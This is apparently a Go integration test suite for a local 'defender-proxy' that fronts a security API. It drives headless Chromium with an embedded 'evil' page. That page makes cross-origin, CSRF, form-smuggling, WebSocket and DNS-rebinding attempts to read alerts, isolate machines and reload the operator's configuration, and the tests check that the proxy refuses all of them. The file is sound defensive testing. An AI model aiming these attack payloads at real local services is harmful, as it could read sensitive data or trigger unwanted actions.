//go:build browser

package integration

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"defender-proxy/internal/simulator"
)

// These stories need Chromium: make browser. What TestAttackPagesOfOtherOrigins says
// that browsers send, one really sends here, with all that it does by itself:
// preflights, redirects, the rules for private networks, Fetch Metadata.

// chromium makes a run of a browser of its own, to which the names lead to this
// machine.
func chromium(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	var path string
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if found, err := exec.LookPath(name); err == nil {
			path = found
			break
		}
	}
	if path == "" {
		t.Fatal("there is no chromium to run; Debian's package is called chromium")
	}
	home := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), 3*patience)
	t.Cleanup(cancel)
	common := []string{
		"--headless=new", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--user-data-dir=" + home, "--host-resolver-rules=MAP *.example 127.0.0.1", "--enable-logging=stderr", "--log-level=0",
	}
	if os.Geteuid() == 0 {
		common = append(common, "--no-sandbox") // which root's browser cannot have
	}
	cmd := exec.CommandContext(ctx, path, append(common, args...)...)
	cmd.Env = append(os.Environ(), "HOME="+home)
	cmd.WaitDelay = 5 * time.Second
	return cmd
}

// dom loads a page as somebody does who types its address, and gives what became of
// it, and what the browser had to say about it.
func dom(t *testing.T, url string) (page, console string) {
	t.Helper()
	cmd := chromium(t, "--dump-dom", "--virtual-time-budget=5000", url)
	var out, said bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &said
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium: %v\n%s", err, said.String())
	}
	for line := range strings.Lines(said.String()) {
		if strings.Contains(line, "CONSOLE") {
			console += line
		}
	}
	return out.String(), console
}

// attempt is what a page's try came to: what it could read, or how it failed.
type attempt struct{ Name, Result string }

// visit opens a page in a browser and waits until it has reported what its tries came
// to. report is where it does that.
func visit(t *testing.T, page string, report <-chan []attempt) []attempt {
	t.Helper()
	cmd := chromium(t, page)
	var said bytes.Buffer
	cmd.Stderr = &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = cmd.Cancel(); _ = cmd.Wait() }()
	select {
	case tries := <-report:
		return tries
	case <-time.After(2 * patience):
		_ = cmd.Cancel()
		_ = cmd.Wait()
		t.Fatalf("the page did not report\n%s", said.String())
	}
	return nil
}

// evilPage tries all that a page can against a target and against the operator's
// listener, and reports what it came to.
const evilPage = `<!doctype html><title>evil</title><body><script>
const target = TARGET, admin = ADMIN;
const tries = [];
const note = (name, result) => tries.push({Name: name, Result: String(result)});
const soon = (p) => Promise.race([p, new Promise(r => setTimeout(() => r("nothing"), 5000))]);
const read = async (name, what, init) => {
  try {
    const r = await soon(fetch(what, init));
    note(name, r === "nothing" ? r : r.type + " " + r.status + " " + (await r.text()).slice(0, 400));
  } catch (e) { note(name, "failed " + e); }
};
const element = (name, tag, set) => soon(new Promise(done => {
  const e = document.createElement(tag);
  e.onload = () => { note(name, "loaded"); done(); };
  e.onerror = () => { note(name, "failed"); done(); };
  set(e);
  document.body.append(e);
}));
const form = (name, action, enctype) => soon(new Promise(done => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const f = document.createElement("form");
  f.action = action; f.method = "POST"; f.enctype = enctype; f.target = frame.name;
  const i = document.createElement("input");
  i.name = '{"Comment":"'; i.value = '"}';
  f.append(i);
  document.body.append(f);
  frame.onload = () => { let seen = "loaded, unreadable"; try { seen = "read " + frame.contentDocument.body.innerText.slice(0, 400); } catch (e) {} note(name, seen); done(); };
  f.submit();
}));
const socket = (name, url) => soon(new Promise(done => {
  try {
    const s = new WebSocket(url);
    s.onopen = () => { note(name, "read: it is open"); done(); };
    s.onerror = s.onclose = () => { note(name, "failed"); done(); };
  } catch (e) { note(name, "failed " + e); done(); }
}));
const events = (name, url) => soon(new Promise(done => {
  const s = new EventSource(url);
  s.onmessage = s.onopen = () => { note(name, "read: it is open"); s.close(); done(); };
  s.onerror = () => { note(name, "failed"); s.close(); done(); };
}));
const sandboxed = (name, what) => soon(new Promise(done => {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  frame.srcdoc = "<script>fetch(" + JSON.stringify(what) + ").then(r => r.text()).then(t => parent.postMessage('read ' + t.slice(0, 400), '*'), e => parent.postMessage('failed ' + e, '*'))</" + "script>";
  onmessage = m => { note(name, m.data); done(); };
  document.body.append(frame);
}));
(async () => {
  const isolate = target + "/api/machines/1/isolate", json = '{"Comment":"x","IsolationType":"Full"}';
  await read("fetch", target + "/api/alerts");
  await read("fetch with credentials", target + "/api/alerts", {credentials: "include"});
  await read("fetch without cors", target + "/api/alerts", {mode: "no-cors"});
  await read("fetch into the private network", target + "/api/alerts", {targetAddressSpace: "loopback"});
  await read("fetch of the help", target + "/");
  await read("fetch of whoami", target + "/-/whoami");
  await read("write as text", isolate, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: json});
  await read("write as a form", isolate, {method: "POST", mode: "no-cors", body: new URLSearchParams({Comment: "x"})});
  await read("write as JSON, with a preflight", isolate, {method: "POST", headers: {"Content-Type": "application/json"}, body: json});
  await read("write with a method of its own", target + "/api/indicators/1", {method: "DELETE"});
  await read("write that outlives the page", isolate, {method: "POST", mode: "no-cors", keepalive: true, body: json});
  note("beacon", "sent " + navigator.sendBeacon(isolate, json));
  await element("image", "img", e => e.src = target + "/api/alerts?img");
  await element("script", "script", e => e.src = target + "/api/alerts?script");
  await element("style", "link", e => { e.rel = "stylesheet"; e.href = target + "/api/alerts?style"; });
  await element("frame", "iframe", e => e.src = target + "/api/alerts?frame");
  await element("frame of the help", "iframe", e => e.src = target + "/");
  await element("object", "object", e => e.data = target + "/api/alerts?object");
  await element("video", "video", e => e.src = target + "/api/alerts?video");
  await form("form", isolate, "application/x-www-form-urlencoded");
  await form("form as text", isolate, "text/plain");
  await form("form with parts", isolate, "multipart/form-data");
  await socket("websocket", target.replace("http", "ws") + "/api/alerts");
  await events("event source", target + "/api/alerts");
  await sandboxed("page without an origin", target + "/api/alerts");
  await read("operator's tenants", admin + "/-/tenants");
  await read("operator's reload", admin + "/-/reload", {method: "POST", mode: "no-cors"});
  await form("operator's reload by a form", admin + "/-/reload", "text/plain");
  await fetch("/report", {method: "POST", body: JSON.stringify(tries)});
})();
</script>`

// evil serves the page for a target, and takes its report. Whatever else is asked for
// goes to other, if there is one.
func evil(t *testing.T, target, admin string, other http.Handler) (address string, report <-chan []attempt) {
	t.Helper()
	reports := make(chan []attempt, 1)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/evil":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, strings.NewReplacer("TARGET", target, "ADMIN", admin).Replace(evilPage))
		case r.URL.Path == "/report" && r.Method == http.MethodPost:
			var tries []attempt
			if err := json.NewDecoder(r.Body).Decode(&tries); err != nil {
				t.Errorf("the report: %v", err)
			}
			reports <- tries
		case other != nil:
			other.ServeHTTP(w, r)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(server.Close)
	return server.Listener.Addr().String(), reports
}

// nothingDone looks for what a page may have reached: an answer that it could read, a
// request at Microsoft's side, a configuration that was read again.
func nothingDone(t *testing.T, w *world, tries []attempt, may func(simulator.Request) bool) {
	t.Helper()
	if len(tries) < 25 {
		t.Errorf("the page tried only %+v", tries)
	}
	for _, a := range tries {
		for _, never := range []string{"@odata", `"value":[`, "read:", "severity", "contoso"} {
			if strings.Contains(a.Result, never) {
				t.Errorf("%s: the page got %s", a.Name, a.Result)
			}
		}
	}
	for _, r := range w.upstream() {
		if may == nil || !may(r) {
			t.Errorf("a page's request arrived: %s %s", r.Method, r.Target)
		}
	}
	if strings.Contains(w.stderr.String(), "read again") {
		t.Errorf("the configuration was read again:\n%s", w.stderr)
	}
	if t.Failed() {
		t.Logf("the page's tries: %+v", tries)
	}
}

// Somebody with a proxy on their machine opens a page of somebody else's: on another
// site, and on another port of the same machine. It can neither read nor write, and
// cannot even make the proxy ask Microsoft for something.
func TestBrowserPagesOfOtherOriginsCanDoNothing(t *testing.T) {
	w := victim(t, nil)
	for _, host := range []string{"evil.example", "localhost", "127.0.0.1"} {
		for _, target := range []string{w.url, strings.Replace(w.url, "127.0.0.1", "localhost", 1)} {
			t.Run(host+" against "+strings.Split(target, ":")[1][2:], func(t *testing.T) {
				address, report := evil(t, fmt.Sprintf("%q", target), fmt.Sprintf("%q", w.admin), nil)
				_, port, _ := net.SplitHostPort(address)
				w := w.in(t)
				w.sim.ResetRequests()
				nothingDone(t, w, visit(t, "http://"+host+":"+port+"/evil", report), nil)
			})
		}
	}
	// The page's requests came; it was the proxy that refused them.
	refused := 0
	for _, r := range records(t, w.stdout.bytes()) {
		if r.Code == "CrossSiteRequest" {
			refused++
		}
	}
	if refused < 50 {
		t.Errorf("only %d requests of pages were refused as such", refused)
	}
}

// DNS rebinding: the name that the page came from leads to the proxy a moment later,
// so that to the browser the proxy is the page's own origin. The page may read the
// answers then; all it reads is that it called the proxy by a wrong name.
func TestBrowserReboundNamesCanDoNothing(t *testing.T) {
	w := victim(t, nil)
	to, err := url.Parse(w.url)
	if err != nil {
		t.Fatal(err)
	}
	// In place of a name server that changes its mind: what is asked for behind the
	// page goes to the proxy, under the name that the browser called.
	rebound := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(to)
		r.Out.Host = r.In.Host
	}}
	address, report := evil(t, "location.origin", fmt.Sprintf("%q", w.admin), rebound)
	_, port, _ := net.SplitHostPort(address)
	w.sim.ResetRequests()
	tries := visit(t, "http://rebound.example:"+port+"/evil", report)
	nothingDone(t, w, tries, nil)
	for _, a := range tries {
		if a.Name == "fetch" && !strings.Contains(a.Result, "421") {
			t.Errorf("the page's fetch got %s, want 421", a.Result)
		}
	}
}

// A listener with a name, over plain HTTP. There browsers send no Sec-Fetch-Site, so
// that a page can make them ask for what they cannot show it; the README says so. It
// reads nothing even then, and writes nothing.
func TestBrowserPagesAgainstANameOverPlainHTTPReadNothing(t *testing.T) {
	w := victim(t, func(c object) { c["listeners"].([]object)[0]["hosts"] = []string{"defender.corp.example"} })
	_, own, _ := strings.Cut(w.address(), ":")
	address, report := evil(t, fmt.Sprintf("%q", "http://defender.corp.example:"+own), fmt.Sprintf("%q", w.admin), nil)
	_, port, _ := net.SplitHostPort(address)
	w.sim.ResetRequests()
	nothingDone(t, w, visit(t, "http://evil.example:"+port+"/evil", report), func(r simulator.Request) bool {
		return r.Method == http.MethodGet && r.BodyBytes == 0
	})
}

// Somebody types the address into a browser: the help page and the operator's
// dashboard are there, and the browser has nothing to complain of.
func TestBrowserShowsTheHelpAndTheDashboard(t *testing.T) {
	w := victim(t, nil)
	for _, url := range []string{w.url + "/", strings.Replace(w.url, "127.0.0.1", "localhost", 1) + "/", w.admin + "/"} {
		page, console := dom(t, url)
		if !strings.Contains(page, "defender-proxy") || console != "" {
			t.Errorf("%s shows\n%.2000s\nand the browser says %s", url, page, console)
		}
	}
	page, _ := dom(t, w.url+"/api/machines/1/isolate")
	if !strings.Contains(page, "MethodNotAllowed") {
		t.Errorf("a page of the API shows %.600s", page)
	}
	page, _ = dom(t, w.url+"/api/alerts?$top=1")
	if !strings.Contains(page, "@odata.context") {
		t.Errorf("a typed address shows %.600s", page)
	}
}
